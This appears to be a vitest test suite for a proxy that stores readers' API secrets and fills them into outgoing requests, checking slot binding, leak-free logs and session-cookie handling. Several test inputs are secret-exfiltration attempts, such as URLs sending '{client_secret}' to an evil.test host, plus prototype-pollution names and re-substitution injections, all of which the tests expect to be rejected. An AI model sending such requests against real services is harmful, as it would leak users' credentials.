import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { startRecorder } from '../fixtures/upstream/recorder.ts'
import type { Recorder } from '../fixtures/upstream/recorder.ts'
import { createWorld } from '../fixtures/upstream/world.ts'
import type { Outcome, World } from '../fixtures/upstream/world.ts'

const CANARY = 'canary-7d1f4b2e'
const COOKIE = /^__Host-dragoman=([\w-]{43}); /

let upstream: Recorder
beforeAll(async () => {
  upstream = await startRecorder()
})
beforeEach(() => upstream.reset())
afterAll(() => upstream.close())

/** A world in which a reader has handed secrets over, and the cookie that says who they are. */
async function holding(api: string, values: Record<string, string>, environment = 'live'): Promise<{ world: World, cookie: string }> {
  const world = createWorld({ port: upstream.port })
  const outcome = await world.secrets({ api, environment, values })
  return { world, cookie: cookieOf(outcome) }
}

function cookieOf({ headers }: Outcome): string {
  const id = COOKIE.exec(headers['set-cookie'] ?? '')?.[1]
  if (id === undefined) throw new Error('no cookie')
  return `__Host-dragoman=${id}`
}

const bearer = { headers: [{ name: 'Authorization', value: 'Bearer {token}' }] }

describe('a secret that is held', () => {
  it('goes into the slot that its scheme declares', async () => {
    const { world, cookie } = await holding('digishare', { token: CANARY })
    const outcome = await world.send({ headers: { cookie }, request: bearer })
    expect(outcome.frames[0]).toMatchObject({ type: 'auth', step: 'secret_used', name: 'token' })
    expect(upstream.requests[0]?.headers.authorization).toBe(`Bearer ${CANARY}`)
  })

  it('is asked for where there is none', async () => {
    const outcome = await createWorld({ port: upstream.port }).send({ request: bearer })
    expect([outcome.status, outcome.code, outcome.detail, upstream.connections()]).toEqual([401, 'secret_required', { name: 'token' }, 0])
  })

  it('is never taken from the call itself', async () => {
    const outcome = await createWorld({ port: upstream.port }).send({ request: bearer, body: { variables: { token: CANARY } } })
    expect([outcome.status, outcome.code, outcome.detail, upstream.connections()]).toEqual([400, 'invalid_request', { name: 'token' }, 0])
  })

  it.each(['sandbox', 'live'])('in one environment is unknown in the other (%s)', async (environment) => {
    const { world, cookie } = await holding('divar', { oauth_key: CANARY }, environment)
    const other = environment === 'live' ? 'sandbox' : 'live'
    const state = await world.secrets({ api: 'divar', environment: other, values: {} }, { headers: { cookie } })
    expect(state.json).toEqual({ held: [] })
  })

  it('of one API is unknown to the other', async () => {
    const { world, cookie } = await holding('digishare', { client_secret: CANARY })
    const outcome = await world.send({
      headers: { cookie }, body: { api: 'thebase', variables: { client_id: 'x' } },
      request: { method: 'POST', url: 'https://demo.thebase.example/oauth/token', body: { type: 'form', fields: [{ name: 'grant_type', value: 'client_credentials' }] } },
    })
    expect([outcome.code, outcome.detail.name, upstream.connections()]).toEqual(['secret_required', 'client_secret', 0])
  })
})

describe('V09, V10 a reader who writes a name where it does not belong', () => {
  const TOKEN_URL = 'https://api.digishare.ma/v1/oauth/token'
  const json = (text: string) => ({ type: 'json', text })
  const cases: [string, object][] = [
    ['another header', { headers: [{ name: 'X-Echo', value: '{token}' }] }],
    ['another header beside the right one', { headers: [...bearer.headers, { name: 'X-Echo', value: '{{token}}' }] }],
    ['a secret of another kind in the right header', { headers: [{ name: 'Authorization', value: 'Bearer {client_secret}' }] }],
    ['a path', { url: 'https://api.digishare.ma/v1/thirds/{token}' }],
    ['a query', { url: 'https://api.digishare.ma/v1/thirds?search={token}' }],
    ['a name in a query', { url: 'https://api.digishare.ma/v1/thirds?{token}=1' }],
    ['a body', { method: 'POST', body: json('{"name":"{token}"}') }],
    ['a member of a body that another operation may have', { method: 'POST', body: json('{"client_secret":"{client_secret}"}') }],
    ['a form', { method: 'POST', body: { type: 'form', fields: [{ name: 'note', value: '{client_secret}' }] } }],
    ['the name of a field', { method: 'POST', body: { type: 'form', fields: [{ name: '{token}', value: '1' }] } }],
    ['text', { method: 'POST', body: { type: 'text', text: 'token={token}' } }],
    ['a content type', { method: 'POST', headers: [{ name: 'content-type', value: 'text/{token}' }], body: { type: 'text', text: 'x' } }],
    ['the wrong member of a token request', { method: 'POST', url: TOKEN_URL, body: json('{"scope":"{client_secret}"}') }],
    ['a member inside a token request', { method: 'POST', url: TOKEN_URL, body: json('{"a":{"client_secret":"{client_secret}"}}') }],
    ['a member that is hidden by another of its name', { method: 'POST', url: TOKEN_URL, body: json('{"client_secret":"{client_secret}","client_secret":"{client_secret}"}') }],
    ['a hidden member', { method: 'POST', url: TOKEN_URL, body: json('{"x":"{client_secret}","x":"","client_secret":"{client_secret}"}') }],
    ['a key', { method: 'POST', url: TOKEN_URL, body: json('{"{client_secret}":"1"}') }],
    ['a bearer token in a token request', { method: 'POST', url: TOKEN_URL, body: json('{"client_secret":"{token}"}') }],
  ]
  it.each(cases)('%s: secret_not_bound', async (_where, request) => {
    const { world, cookie } = await holding('digishare', { token: CANARY, client_secret: CANARY })
    const outcome = await world.send({ headers: { cookie }, request })
    expect([outcome.status, outcome.code, upstream.connections()]).toEqual([403, 'secret_not_bound', 0])
    expect(JSON.stringify(outcome)).not.toContain(CANARY)
  })

  it.each([
    'https://evil.test/?s={client_secret}', 'https://api.digishare.ma/v1/echo?s={client_secret}', 'https://{client_secret}.evil.test/', 'https://evil.test/{token}',
  ])('%s is no target at all', async (url) => {
    const { world, cookie } = await holding('digishare', { token: CANARY, client_secret: CANARY })
    const outcome = await world.send({ headers: { cookie }, request: { url, ...bearer } })
    expect([outcome.status, outcome.code, world.lookups]).toEqual([403, 'target_not_allowed', []])
  })

  it('a secret as a customer\'s name is not bound', async () => {
    const { world, cookie } = await holding('thebase', { client_secret: CANARY })
    const outcome = await world.send({ headers: { cookie }, body: { api: 'thebase' }, request: { url: 'https://{client_secret}.thebase.example/example/customers' } })
    expect([outcome.code, world.lookups]).toEqual(['secret_not_bound', []])
  })

  it('the right members of a token request are bound', async () => {
    const { world, cookie } = await holding('digishare', { client_secret: CANARY })
    const text = '{"grant_type":"client_credentials","client_id":"{client_id}","client_secret":"{client_secret}"}'
    const outcome = await world.send({ headers: { cookie }, body: { variables: { client_id: 'id' } }, request: { method: 'POST', url: TOKEN_URL, body: json(text) } })
    expect(outcome.status).toBe(200)
    expect(upstream.requests[0]?.body).toBe(`{"grant_type":"client_credentials","client_id":"id","client_secret":"${CANARY}"}`)
  })

  it('the headers of a token request are bound, under the names that the API uses', async () => {
    const { world, cookie } = await holding('divar', { apikey: CANARY, oauth_key: 'other' })
    const outcome = await world.send({ headers: { cookie }, body: { api: 'divar', variables: { app_slug: 'app', code: 'c' } }, request: {
      method: 'POST', url: 'https://api.divar.ir/v1/open-platform/oauth/access_token', headers: [{ name: 'x-api-key', value: '{{apikey}}' }],
      body: json('{"code":"{{code}}","client_id":"{{app_slug}}","client_secret":"{{oauth_key}}"}'),
    } })
    expect(outcome.status).toBe(200)
    expect(upstream.requests[0]).toMatchObject({ headers: { 'x-api-key': CANARY }, body: '{"code":"c","client_id":"app","client_secret":"other"}' })
  })
})

describe('V06, V08 names and parameters', () => {
  it.each(['__proto__', 'constructor', 'toString', 'unknown'])('%s is a name without a value', async (name) => {
    const outcome = await createWorld({ port: upstream.port }).send({ request: { headers: [{ name: 'x-note', value: `{${name}}` }] } })
    expect([outcome.status, outcome.code, outcome.detail, upstream.connections()]).toEqual([400, 'unresolved_variable', { name }, 0])
  })

  it('a value is not filled again', async () => {
    const { world, cookie } = await holding('digishare', { token: CANARY })
    await world.send({ headers: { cookie }, request: { url: 'https://api.digishare.ma/v1/thirds?q={q}' }, body: { variables: { q: '{token}{{token}}${token}' } } })
    expect(upstream.requests[0]?.url).toBe('/v1/thirds?q=%7Btoken%7D%7B%7Btoken%7D%7D%24%7Btoken%7D')
  })

  it('a token request repeats no parameter', async () => {
    const fields = [{ name: 'grant_type', value: 'client_credentials' }, { name: 'grant_type', value: 'password' }]
    const outcome = await createWorld({ port: upstream.port }).send({ request: { method: 'POST', url: 'https://api.digishare.ma/v1/oauth/token', body: { type: 'form', fields } } })
    expect([outcome.code, outcome.detail, upstream.connections()]).toEqual(['invalid_request', { name: 'grant_type' }, 0])
  })

  it.each([
    [{ headers: [{ name: 'Authorization', value: 'Bearer YOUR_PERSONAL_ACCESS_TOKEN' }] }, {}],
    [{ headers: [{ name: 'Authorization', value: 'Bearer <token>' }] }, {}],
    [{ url: 'https://api.digishare.ma/v1/thirds?q={q}' }, { q: 'YOUR_QUERY' }],
  ])('a documented hint is not sent: %j', async (request, variables) => {
    const outcome = await createWorld({ port: upstream.port }).send({ request, body: { variables } })
    expect([outcome.status, outcome.code, upstream.connections()]).toEqual([400, 'placeholder_value', 0])
  })
})

describe('V14 a secret that was used', () => {
  it('is in no frame, no header and no log line of ours', async () => {
    const { world, cookie } = await holding('digishare', { token: CANARY })
    const outcome = await world.send({ headers: { cookie }, request: bearer })
    const shown = JSON.stringify([outcome.frames, outcome.headers, world.log])
    expect(shown).not.toContain(CANARY)
    expect(shown).not.toContain(cookie.slice(-20))
    expect(world.log).toHaveLength(2)
  })

  it('is in no answer of the secrets\' own endpoint', async () => {
    const { world, cookie } = await holding('digishare', { token: CANARY })
    const outcome = await world.secrets({ api: 'digishare', environment: 'live', values: { client_secret: `${CANARY}2` } }, { headers: { cookie } })
    expect(outcome.json).toEqual({ held: ['token', 'client_secret'], expiresAt: expect.any(Number) })
    expect(JSON.stringify(outcome)).not.toContain(CANARY)
  })
})

describe('O19 session ids', () => {
  it.each([
    ['guessed', `__Host-dragoman=${'A'.repeat(43)}`], ['short', '__Host-dragoman=x'], ['under another name', 'dragoman=KNOWN'], ['twice', '__Host-dragoman=KNOWN; __Host-dragoman=KNOWN'], ['tampered with', '__Host-dragoman=KNOWNx'],
  ])('%s: nobody\'s', async (_name, pattern) => {
    const { world, cookie } = await holding('digishare', { token: CANARY })
    const id = cookie.slice('__Host-dragoman='.length)
    const outcome = await world.send({ headers: { cookie: pattern.replaceAll('KNOWN', id) }, request: bearer })
    expect(outcome.code).toBe('secret_required')
  })

  it('of another origin\'s pages: nobody\'s', async () => {
    const world = createWorld({ port: upstream.port, config: { origins: ['https://docs.example', 'https://other.example'] } })
    const cookie = cookieOf(await world.secrets({ api: 'digishare', environment: 'live', values: { token: CANARY } }))
    const id = cookie.slice('__Host-dragoman='.length)
    const outcome = await world.send({ headers: { 'origin': 'https://other.example', 'x-dragoman-session': id }, request: bearer })
    expect(outcome.code).toBe('secret_required')
  })

  it.each([['idle', 3_600_000, 1], ['in use all the time', 1_800_000, 24]])('end when they are %s', async (_name, step, uses) => {
    const { world, cookie } = await holding('digishare', { token: CANARY })
    for (let use = 1; use < uses; use += 1) {
      world.clock.advance(step)
      expect((await world.send({ headers: { cookie }, request: bearer })).status).toBe(200)
    }
    world.clock.advance(step)
    expect((await world.send({ headers: { cookie }, request: bearer })).code).toBe('secret_required')
  })
})
